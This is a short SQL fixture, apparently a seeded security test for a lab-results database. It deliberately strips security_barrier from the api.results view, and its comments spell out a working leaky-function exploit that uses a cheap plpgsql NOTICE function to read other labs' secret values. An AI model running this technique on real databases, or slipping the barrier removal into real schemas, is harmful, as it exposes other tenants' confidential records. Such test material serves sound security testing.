-- The view was rebuilt without its barrier: a cast in the caller's own condition meets other labs'
-- values first.
-- about: results
-- as: hf_labs_app
-- exploit: SET labs.lab_id = '1';
-- exploit: SET enable_indexscan = off;
-- exploit: SET enable_bitmapscan = off;
-- exploit: CREATE FUNCTION pg_temp.look(v text) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS
-- exploit:   $$ BEGIN RAISE NOTICE 'seen %', v; RETURN true; END $$;
-- exploit: SELECT barcode FROM api.results WHERE pg_temp.look(value);
-- shows: seen Road-secret value
SET ROLE hf_labs_owner;
ALTER VIEW api.results RESET (security_barrier);
RESET ROLE;
